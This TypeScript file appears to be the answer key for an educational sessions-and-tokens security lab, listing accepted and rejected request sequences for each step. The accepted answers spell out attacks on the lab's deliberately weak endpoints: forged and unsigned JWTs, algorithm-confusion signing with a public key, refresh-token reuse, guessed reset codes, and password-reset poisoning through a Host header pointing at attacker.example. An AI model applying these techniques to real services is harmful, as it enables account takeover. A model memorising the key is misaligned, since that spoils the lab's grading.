import { BETWEEN } from '@/labs/http/written';
import {
  forward,
  logIn,
  OWN,
  post,
  STAFF,
  withCookie,
  withToken,
} from '@/labs/exercises/tokens-lab/requests';
import { TOKENS_LAB } from '@/labs/exercises/tokens-lab/lab';
import type { Answers } from './judges';

const all = (...requests: readonly string[]) => requests.join(BETWEEN);
const solution = (id: string) =>
  TOKENS_LAB.steps.find((step) => step.id === id)?.solution.split(BETWEEN) ?? [];
/** The solution of a step with some of its requests alone, by their numbers from 1. */
const only = (id: string, ...numbers: readonly number[]) =>
  all(...numbers.map((number) => solution(id)[number - 1] ?? ''));
const changed = (id: string, from: string, to: string) => all(...solution(id)).replaceAll(from, to);

const TOKEN = '1.body.access_token';
const COOKIE = '1.cookie.__Host-session';
const bearer = (path: string, expression: string) => withToken(`GET ${path}`, expression);
const UNSIGNED = `${TOKEN} | payload role=staff | header alg=none | unsigned`;
const FORGED = `${TOKEN} | payload role=staff | sign HS256 2.body`;
const LOG_OUT = withToken('DELETE /tokens/current', TOKEN);
const REFRESH = '/tokens/refresh';
const refreshed = (path: string, expression: string) =>
  post(path, { refresh_token: `{{${expression}}}` });
const FIRST = '1.body.refresh_token';
const reset = (door: string, email: string, ...headers: readonly string[]) =>
  post(`/${door}/reset`, { email }, ...headers);
const confirm = (door: string, code: string, password = 'mine') =>
  post(`/${door}/reset/confirm`, { code, password });
const inAs = (email: string, password = 'mine') => post('/sessions', { email, password });
const FOREIGN = 'Host: attacker.example';
const MAILED = '{{2.body.mails.0.code}}';

const RIGHT: Answers['right'] = {
  session: [
    all(
      logIn('/sessions'),
      'GET /me',
      withCookie('DELETE /weak/sessions/current', COOKIE),
      withCookie('GET /me', COOKIE),
      withCookie('DELETE /sessions/current', COOKIE),
      withCookie('GET /me', COOKIE),
    ),
    all(
      logIn('/sessions'),
      'DELETE /weak/sessions/current',
      withCookie('GET /me', COOKIE),
      logIn('/sessions'),
      'DELETE /sessions/current',
      withCookie('GET /me', '4.cookie.__Host-session'),
    ),
  ],
  inside: [
    post('/locker', { code: '3094' }),
    all(logIn('/weak/tokens'), post('/locker', { code: '3094' })),
  ],
  tamper: [
    all(
      logIn('/tokens'),
      bearer('/strict/me', TOKEN),
      bearer('/strict/me', `${TOKEN} | payload sub=1`),
    ),
    all(
      logIn('/tokens'),
      bearer('/strict/till', `${TOKEN} | payload exp=9999999999`),
      bearer('/strict/till', TOKEN),
    ),
  ],
  none: [
    only('none', 1, 3, 2),
    all(
      logIn('/tokens'),
      bearer('/weak/till', `${TOKEN} | header alg=none | payload role=staff`),
      bearer('/strict/me', UNSIGNED),
    ),
  ],
  confusion: [
    only('confusion', 1, 2, 4, 3),
    all(
      logIn('/tokens'),
      'GET /keys/public.pem',
      bearer(
        '/patched/till',
        `${TOKEN} | payload role="staff" | payload sub=1 | sign hs256 2.body`,
      ),
      bearer('/strict/till', FORGED),
    ),
  ],
  expiry: [
    all(
      logIn('/tokens'),
      forward('minutes=15'),
      bearer('/strict/me', TOKEN),
      forward('minutes=1'),
      bearer('/strict/till', TOKEN),
    ),
    all(
      logIn('/tokens'),
      forward('minutes=15&seconds=29'),
      bearer('/strict/me', TOKEN),
      forward('seconds=1'),
      bearer('/strict/me', TOKEN),
    ),
  ],
  audience: [only('audience', 1, 3, 2), changed('audience', 'guest', '1')],
  revocation: [
    all(
      logIn('/tokens'),
      LOG_OUT,
      bearer('/checked/till', TOKEN),
      bearer('/strict/till', TOKEN),
      bearer('/strict/me', TOKEN),
      forward('minutes=60'),
      bearer('/strict/me', TOKEN),
    ),
    changed('revocation', 'minutes=16', 'seconds=930'),
  ],
  refresh: [
    all(
      logIn('/tokens'),
      refreshed(REFRESH, FIRST),
      refreshed(REFRESH, '2.body.refresh_token'),
      refreshed(`/weak${REFRESH}`, '3.body.refresh_token'),
      refreshed(`/weak${REFRESH}`, '3.body.refresh_token'),
      refreshed(REFRESH, FIRST),
      refreshed(REFRESH, '3.body.refresh_token'),
    ),
    all(
      logIn('/tokens'),
      refreshed(`/weak${REFRESH}`, FIRST),
      refreshed(`/weak${REFRESH}`, FIRST),
      logIn('/tokens'),
      refreshed(REFRESH, '4.body.refresh_token'),
      refreshed(REFRESH, '4.body.refresh_token'),
      refreshed(REFRESH, '5.body.refresh_token'),
    ),
  ],
  guess: [
    all(
      reset('weak', STAFF),
      confirm('weak', '7041'),
      inAs(STAFF),
      confirm('weak', '7041', 'again mine'),
    ),
    changed('guess', 'chosen by somebody', 'x'),
  ],
  host: [
    all(
      reset('hosted', STAFF, FOREIGN),
      'GET https://attacker.example/log',
      confirm('hosted', '{{2.body.asked.0 | after =}}'),
      inAs(STAFF),
    ),
    changed('host', 'Host: attacker.example', 'host: attacker.example'),
  ],
  right: [
    only('right', 1, 2, 3, 4, 5, 6, 7, 8),
    all(
      reset('strict', OWN.email),
      'GET /mailbox',
      forward('minutes=15'),
      confirm('strict', MAILED),
      reset('strict', OWN.email, FOREIGN),
      'GET /mailbox',
      confirm('strict', '{{6.body.mails.0.code}}'),
      confirm('strict', '{{6.body.mails.0.code}}'),
    ),
  ],
};

const WRONG: Answers['wrong'] = {
  session: [
    ['Nobody has logged in', 'GET /me'],
    ['Nobody has logged in', post('/sessions', { ...OWN, password: 'x' })],
    ['after the weak way out', only('session', 1, 4, 5)],
    ['after the weak way out', all(logIn('/sessions'), 'DELETE /weak/sessions/current', 'GET /me')],
    ['not seen to end', only('session', 1, 2, 3)],
    ['not seen to end', only('session', 1, 2, 3, 4)],
    ['Answer 1, with status 401', changed('session', 'three', 'four')],
    ['no answer 9 yet', changed('session', '{{1.', '{{9.')],
  ],
  inside: [
    ['locker is shut', logIn('/weak/tokens')],
    ['locker is shut', post('/locker', { code: '0000' })],
    ['locker is shut', post('/locker', { code: 3094 })],
    ['no claim locker', changed('inside', '/weak/tokens', '/tokens')],
    [
      'no token',
      all(logIn('/weak/tokens'), post('/locker', { code: '{{1.body | claim locker}}' })),
    ],
  ],
  tamper: [
    ['No token was accepted', only('tamper', 1)],
    ['No token was accepted', only('tamper', 1, 3)],
    ['refused for its signature', only('tamper', 1, 2)],
    [
      'refused for its signature',
      changed('tamper', 'payload role=staff', 'unsigned | header alg=none'),
    ],
    [
      'refused for its signature',
      all(
        logIn('/tokens'),
        bearer('/strict/me', TOKEN),
        bearer('/weak/till', `${TOKEN} | payload role=staff`),
      ),
    ],
    ['one of header, payload', changed('tamper', 'payload role=staff', 'become staff')],
    ['takes a name and a value', changed('tamper', 'payload role=staff', 'payload role')],
  ],
  none: [
    ['was not opened', only('none', 1)],
    ['was not opened', only('none', 1, 3)],
    ['was not opened', changed('none', '/weak/', '/patched/')],
    ['was not opened', changed('none', 'payload role=staff | ', '')],
    ['was not opened', changed('none', 'header alg=none | ', '')],
    ['yet to be shown', only('none', 1, 2)],
    ['yet to be shown', changed('none', '/strict/', '/weak/')],
  ],
  confusion: [
    ['was not opened', only('confusion', 1, 2)],
    ['was not opened', changed('confusion', '/patched/', '/any-audience/')],
    ['was not opened', changed('confusion', 'HS256 2.body', 'HS256 1.body')],
    ['was not opened', changed('confusion', FORGED, UNSIGNED)],
    ['yet to be shown', only('confusion', 1, 2, 3)],
    ['takes HS256 and a key', changed('confusion', 'HS256 2.body', 'RS256 2.body')],
    ['its number, a part and a name', changed('confusion', 'HS256 2.body', 'HS256 public.pem')],
  ],
  expiry: [
    ['accepted after its expiry', all(logIn('/tokens'), bearer('/strict/me', TOKEN))],
    ['accepted after its expiry', changed('expiry', 'seconds=910', 'seconds=860')],
    ['accepted after its expiry', changed('expiry', 'seconds=910', 'seconds=930')],
    ['accepted after its expiry', changed('expiry', 'seconds=910', 'seconds=-910')],
    ['not refused for its age', only('expiry', 1, 2, 3)],
    ['not refused for its age', changed('expiry', 'seconds=30', 'seconds=3')],
  ],
  audience: [
    ['was not opened', only('audience', 1)],
    ['was not opened', only('audience', 1, 3)],
    ['was not opened', all(logIn('/tokens'), bearer('/any-audience/till', TOKEN))],
    ['was not opened', changed('audience', '/any-audience/till', '/any-audience/me')],
    ['yet to be refused', only('audience', 1, 2)],
    ['yet to be refused', changed('audience', '/strict/', '/weak/')],
  ],
  revocation: [
    ['Nobody has logged out', only('revocation', 1, 3)],
    ['no token was accepted', only('revocation', 1, 2)],
    ['no token was accepted', only('revocation', 1, 2, 4)],
    ['has not refused', only('revocation', 1, 2, 3)],
    ['not seen to expire', only('revocation', 1, 2, 3, 4)],
    ['not seen to expire', changed('revocation', 'minutes=16', 'minutes=15')],
  ],
  refresh: [
    ['twice the weak way', only('refresh', 1, 2)],
    ['twice the weak way', only('refresh', 1, 4, 5)],
    ['detected no reuse', only('refresh', 1, 2, 3)],
    ['detected no reuse', only('refresh', 1, 2, 3, 4)],
    ['yet to be tried', only('refresh', 1, 2, 3, 4, 5)],
    ['yet to be tried', changed('refresh', '{{4.body', '{{1.body')],
    ['no body.refresh_token', changed('refresh', '{{4.body', '{{5.body')],
  ],
  guess: [
    ['is what it was', only('guess', 1, 2)],
    ['is what it was', changed('guess', '7042', '7041')],
    ['is what it was', changed('guess', '7042', '9999')],
    ['nobody has logged in with it', only('guess', 1, 3, 4, 5)],
    ['no body.code', changed('guess', '7042', '{{1.body.code}}')],
    ['No code was used a second time', only('guess', 1, 3, 4, 6)],
  ],
  host: [
    ['No message has a link', only('host', 2)],
    ['No message has a link', all(reset('hosted', STAFF), 'GET https://attacker.example/log')],
    ['No message has a link', changed('host', '/hosted/', '/strict/').split(BETWEEN)[0] ?? ''],
    ['is what it was', only('host', 1, 2)],
    ['is what it was', changed('host', 'code=}}', 'code}}')],
    ['nobody has logged in with it', only('host', 1, 2, 3)],
  ],
  right: [
    ['foreign `Host`', changed('right', `${FOREIGN}\n`, '')],
    ['foreign `Host`', changed('right', '/strict/', '/hosted/')],
    ['No code was used', only('right', 1, 2)],
    ['second time', only('right', 1, 2, 3)],
    ['too late', only('right', 1, 2, 3, 4)],
    ['too late', changed('right', 'minutes=15', 'minutes=14')],
  ],
};

/** Answers to the steps of the lab of sessions and tokens, beside its own. */
export const ANSWERS: Answers = { right: RIGHT, wrong: WRONG };
